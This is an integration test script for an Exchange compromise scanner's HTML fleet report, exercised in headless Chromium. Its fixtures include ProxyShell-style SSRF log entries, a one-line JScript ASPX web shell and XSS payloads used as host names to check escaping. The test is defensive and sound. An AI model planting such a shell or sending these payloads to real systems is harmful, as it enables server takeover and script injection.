#!/usr/bin/env bash
# The HTML report at fleet scale in a real browser: a 5,001-host report (5,000
# probes and 1,250 walks written by bench/fleet/gen_report.py, a real walk of
# a tree with a shell and logs, a host with hostile names), merged by
# `exscan report`, loaded in headless Chromium over the DevTools protocol
# (tests/integration/cdp.py, Python standard library, no port opened); the
# test filters it to the compromised hosts, searches, opens one host, and
# keeps screenshots of both states in $EXSCAN_ARTIFACTS/report_html/
# (meson-logs/artifacts/ of the build directory).
. "$(dirname "$0")/tap.sh"
export XDG_CACHE_HOME="$TMP/cache"
ART="${EXSCAN_ARTIFACTS:-$TMP/artifacts}/report_html"
mkdir -p "$ART"
F='#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken'

python3 "$EXSCAN_SRCDIR/bench/fleet/gen_report.py" 5000 "$TMP/fleet"
tap_ok $? "5,000 probe results and 1,250 walks generated"
# a real walk, merged into the probe of EXCH000002 by its NTLM DNS name
R="$TMP/srv"
mkdir -p "$R/inetpub/logs/LogFiles/W3SVC1" "$R/inetpub/wwwroot/aspnet_client"
{
	echo "$F"
	echo "2021-08-09 23:00:00 10.0.0.1 GET /owa/ - 443 - 10.0.0.9 Mozilla/5.0 - 200 0 0 5"
	echo "2021-08-10 01:02:03 10.0.0.1 GET /autodiscover/autodiscover.json @evil.corp/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.corp 443 - 192.0.2.7 Mozilla/5.0+(Windows) - 200 0 0 15"
	echo "2021-08-12 01:02:03 10.0.0.1 GET /autodiscover/autodiscover.json @evil.corp/powershell/?X-Rps-CAT=VgEA 443 - 192.0.2.7 Mozilla/5.0+(Windows) - 401 0 0 15"
} >"$R/inetpub/logs/LogFiles/W3SVC1/u_ex210810.log"
printf '<%%@ Page Language="Jscript"%%><%%eval(Request.Item["z"],"unsafe");%%>' \
	>"$R/inetpub/wwwroot/aspnet_client/s.aspx"
touch -d "2021-08-10 02:00:00Z" "$R/inetpub/wwwroot/aspnet_client/s.aspx"
run "$EXSCAN" walk --format jsonl --host exch000002.corp.example --fail-on never "$R"
cp "$TMP/out" "$TMP/real.jsonl"
# hostile names: markup, the end of a script block, a line separator
python3 - "$TMP/hostile.jsonl" <<'PY'
import json, sys
h = {"host": "</script><script>alert(1)</script>\u2028evil", "root": "/mnt/evil",
     "findings": [{"path": "inetpub/wwwroot/aspnet_client/<img src=x onerror=alert(2)>.aspx",
                   "kind": "webshell", "rule": "r<!--", "family": "F</script>", "score": 90,
                   "severity": "alert", "sha256": "00", "mtime": "2021-03-03T00:00:00Z"}],
     "stats": {"files_seen": 1, "files_scanned": 1, "errors": 0}}
open(sys.argv[1], "w", encoding="utf-8").write(json.dumps(h, ensure_ascii=False) + "\n")
PY
IN=("$TMP/fleet/probe-5000.jsonl" "$TMP/fleet/walk-5000.jsonl" "$TMP/real.jsonl" "$TMP/hostile.jsonl")
run "$EXSCAN" report --format json --fail-on never "${IN[@]}"
cp "$TMP/out" "$TMP/r.json"
json_check "the JSON report of the same inputs: 5,001 hosts, 127 compromised (125 generated, the real walk, the hostile host)" \
	"d['summary']['hosts'] == 5001 and d['summary']['compromised'] == 127"
run "$EXSCAN" report --format html --fail-on never -o "$TMP/r.html" "${IN[@]}"
expect_rc 0 "the HTML report of 5,001 hosts is written"
size=$(stat -c %s "$TMP/r.html")
tap_ok $(( size > 10000000 )) "the page is under 10 MB ($size bytes)"
grep -qE "(src|href)=\"(https?:)?//" "$TMP/r.html"
tap_ok $(( ! $? )) "no external resources"
python3 - "$TMP/r.html" >"$TMP/py" 2>&1 <<'PY'
import json, re, sys
t = open(sys.argv[1], encoding="utf-8").read()
csp = re.search(r'http-equiv="Content-Security-Policy" content="([^"]*)"', t).group(1)
assert "default-src 'none'" in csp and re.search(r"script-src 'sha256-[A-Za-z0-9+/=]+';", csp), csp
# exactly three script elements: two JSON blocks and ours; nothing from a host ends them
assert len(re.findall(r"<script", t)) == 3 and len(re.findall(r"</script", t)) == 3
for c in "\u2028\u2029\u202e":
    assert c not in t
rows = json.loads(re.search(r'<script id="rows" type="application/json">(.*?)</script>', t, re.S).group(1))
assert len(rows) == 5001
evil = [r for r in rows if "alert(1)" in r[0]]
assert evil and evil[0][0] == "</script><script>alert(1)</script>\\u2028evil", evil
print("ok")
PY
tap_ok $? "CSP pins the one script by hash; hostile text stays inside the JSON data, escaped" "$(cat "$TMP/py")"

CHROMIUM=$(command -v chromium || command -v chromium-browser || true)
if [ -z "$CHROMIUM" ]; then
	tap_skip "headless Chromium loads the 5,001-host report, filters, opens a host" \
		"chromium is not installed (tools/install-deps.sh installs it)"
	tap_done
	exit 0
fi
PYTHONPATH="$EXSCAN_SRCDIR/tests/integration" timeout 240 python3 - "$CHROMIUM" "$TMP" "$ART" "$TMP/r.json" >"$TMP/res" 2>&1 <<'PY'
import json, sys
import cdp

chromium, tmp, art, report = sys.argv[1:5]
want = json.load(open(report))
# names as the page shows them (a line separator as the text \u2028)
compromised = sorted(h["host"].replace("\u2028", "\\u2028") for h in want["hosts"] if h["verdict"] == "compromised")
real = next(h for h in want["hosts"] if h["host"] == "10.0.0.2")
results = []
def check(ok, what, diag=""):
    results.append([bool(ok), what, "" if ok else str(diag)[:1500]])

b = cdp.Browser(chromium, tmp + "/chrome", width=1280, height=1000)
try:
    secs = b.load("file://" + tmp + "/r.html", timeout=120)
    check(b.eval("document.body.dataset.ready") == "1", "the page's script ran (load: %.2f s)" % secs,
          b.problems())
    check(b.eval("document.querySelectorAll('#hosts tbody tr').length") == 500 and
          b.eval("document.getElementById('shown').textContent") == "5001 of 5001 hosts (first 500 shown)",
          "the table starts with the first 500 of 5,001 hosts", b.eval("document.getElementById('shown').textContent"))
    first = b.eval("[...document.querySelectorAll('#hosts tbody tr')].slice(0,3).map(r => r.cells[1].textContent)")
    check(first == ["compromised"] * 3, "strongest verdict first", first)
    # filter: a mouse click on the 'compromised' count
    b.click(".count[data-v='4']")
    b.wait_for("document.getElementById('shown').textContent.startsWith('%d of')" % len(compromised))
    got = b.eval("[...document.querySelectorAll('#hosts tbody tr')].map(r => [r.cells[0].textContent, r.cells[1].textContent])")
    check(len(got) == len(compromised) and all(v == "compromised" for _, v in got) and
          sorted(h for h, _ in got) == compromised,
          "filtered to the %d compromised hosts, the same as the JSON report" % len(compromised), got[:5])
    b.screenshot(art + "/filtered-compromised.png")
    # sort by host name (click the header) and by build filter
    b.click("#hosts th[data-k='0']")
    names = b.eval("[...document.querySelectorAll('#hosts tbody tr')].map(r => r.cells[0].textContent)")
    check(names == sorted(names, key=str.lower), "a click on 'host' sorts by name", names[:5])
    b.eval("(function(){var s=document.getElementById('fb'); s.value='15.1.2176.2'; s.dispatchEvent(new Event('change'));})()")
    n = b.eval("document.querySelectorAll('#hosts tbody tr').length")
    cells = b.eval("[...document.querySelectorAll('#hosts tbody tr')].map(r => r.cells[2].textContent)")
    check(n > 0 and set(cells) == {"15.1.2176.2"}, "the build filter keeps compromised 15.1.2176.2 hosts only", cells[:5])
    b.eval("(function(){var s=document.getElementById('fb'); s.value=''; s.dispatchEvent(new Event('change'));})()")
    # text search, then open the host of the real walk with a click
    b.type_text("#fq", "proxyshell")
    b.wait_for("document.getElementById('shown').textContent.startsWith('1 of')")
    check(b.eval("document.querySelector('#hosts tbody tr').cells[0].textContent") == "10.0.0.2",
          "typing in the search box leaves the one matching host (its main reason names ProxyShell; case does not matter)",
          b.eval("document.getElementById('shown').textContent"))
    b.click("#hosts tbody tr button")
    b.wait_for("!document.getElementById('detail').hidden")
    text = b.eval("document.getElementById('detail').innerText")
    main = next(r["text"] for r in real["reasons"] if r["level"] == "compromised")
    check("10.0.0.2" in text and "Why" in text and main in text, "the detail shows the host and its reasons", text[:800])
    check("first shell\t2021-08-10T02:00:00Z" in text and "first success\t2021-08-10T01:02:03Z" in text,
          "the detail shows the timeline's moments", text[:1500])
    dots = b.eval("document.querySelectorAll('#detail svg.axis circle').length")
    bars = b.eval("document.querySelectorAll('#detail svg.axis rect.day-s').length")
    check(dots >= 3 and bars >= 1, "the timeline is drawn on a time axis (%s events, %s day bars)" % (dots, bars))
    check("aspnet_client/s.aspx" in text and "Active checks" in text and "CVE-2021-26855" in text,
          "findings and checks are shown", text[-1500:])
    b.screenshot(art + "/host-detail.png")
    # the hostile host: its name and paths are text, nothing runs
    b.type_text("#fq", "alert")
    b.wait_for("document.getElementById('shown').textContent.startsWith('1 of') && "
               "document.querySelector('#hosts tbody tr').cells[0].textContent.indexOf('alert') >= 0")
    b.click("#hosts tbody tr button")
    b.wait_for("document.querySelector('#detail .host') && document.querySelector('#detail .host').textContent.indexOf('alert') >= 0")
    name = b.eval("document.querySelector('#detail .host').textContent")
    paths = b.eval("[...document.querySelectorAll('#detail table.findings td.path')].map(t => t.textContent)")
    check(name == "</script><script>alert(1)</script>\\u2028evil" and
          "inetpub/wwwroot/aspnet_client/<img src=x onerror=alert(2)>.aspx" in paths and
          b.eval("document.querySelectorAll('img').length") == 0 and
          b.eval("document.querySelectorAll('script').length") == 3,
          "hostile names are shown as text: no element, no script is made of them", [name, paths])
    b.screenshot(art + "/hostile-host.png")
    # a link to one host: report.html#HOST opens it
    b.load("about:blank")
    b.load("file://" + tmp + "/r.html#10.0.0.2", timeout=120)
    check(b.eval("document.getElementById('detail').hidden") is False and
          b.eval("document.querySelector('#detail .host').textContent") == "10.0.0.2",
          "report.html#10.0.0.2 opens that host", b.eval("location.hash"))
    check(not b.problems(), "no script error, dialog or CSP violation", b.problems())
except Exception as e:
    check(False, "the browser session went through", "%s: %s; %s" % (type(e).__name__, e, b.problems()))
finally:
    b.close()
json.dump(results, open(tmp + "/results.json", "w"))
PY
st=$?
if [ -f "$TMP/results.json" ]; then
	while IFS=$'\t' read -r ok what diag; do
		tap_ok "$ok" "$what" "$diag"
	done < <(python3 -c 'import json,sys
for ok, what, diag in json.load(open(sys.argv[1])):
    print("%d\t%s\t%s" % (0 if ok else 1, what, diag.replace("\t", " ").replace("\n", " ")))' "$TMP/results.json")
else
	tap_ok 1 "the browser session ran" "$(tail -20 "$TMP/res")"
fi
tap_ok $st "the browser session ended cleanly" "$(tail -20 "$TMP/res")"
for s in filtered-compromised host-detail; do
	[ "$(head -c 8 "$ART/$s.png" 2>/dev/null | od -An -tx1 | tr -d ' \n')" = "89504e470d0a1a0a" ]
	tap_ok $? "screenshot kept: $ART/$s.png"
done
tap_done
